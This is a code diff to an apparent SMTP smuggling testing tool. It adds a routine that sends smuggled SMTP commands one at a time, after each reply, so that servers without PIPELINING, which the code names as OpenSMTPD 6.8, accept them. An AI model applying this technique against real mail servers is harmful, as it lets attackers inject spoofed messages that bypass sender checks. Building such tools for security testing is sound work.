@@ -100,7 +100,11 @@ def smuggle(ctx: Context, step: Step) -> Outcome:
         if not _send(ctx, outcome, first):
             return outcome
         _listen(ctx, outcome, min(SPLIT_WAIT, ctx.step_timeout(step)))  # a vulnerable server answers now
-        if outcome.closed or not _send(ctx, outcome, rest):
+        if outcome.closed:
+            return outcome
+        if outcome.replies and "PIPELINING" not in ctx.session.extensions:
+            rest = _one_at_a_time(ctx, outcome, rest, ctx.step_timeout(step))
+        if rest is None or not _send(ctx, outcome, rest):
             return outcome
     elif not _send(ctx, outcome, first + rest):
         return outcome
@@ -110,6 +114,21 @@ def smuggle(ctx: Context, step: Step) -> Outcome:
     if outcome.replies and outcome.replies[-1].code == 221:
         outcome.replies.pop()
     return outcome
+
+
+def _one_at_a_time(ctx: Context, outcome: Outcome, rest: bytes, timeout: float) -> bytes | None:
+    """The server ended the data at the bogus sequence and does not offer PIPELINING: send the smuggled
+    commands as a client must then (RFC 2920 §3.1), each after the last one's reply, up to DATA; return
+    the message that follows (None when the conversation ended). OpenSMTPD 6.8 refuses them pipelined
+    ("500 Pipelining not supported") but takes them this way."""
+    while rest:
+        line, sep, after = rest.partition(b"\r\n")
+        if not sep or not _send(ctx, outcome, line + sep) or _read(ctx, outcome, timeout) is None:
+            return None
+        rest = after
+        if line.upper() == b"DATA":
+            break
+    return rest
 
 
 def burst(ctx: Context, step: Step) -> Outcome:
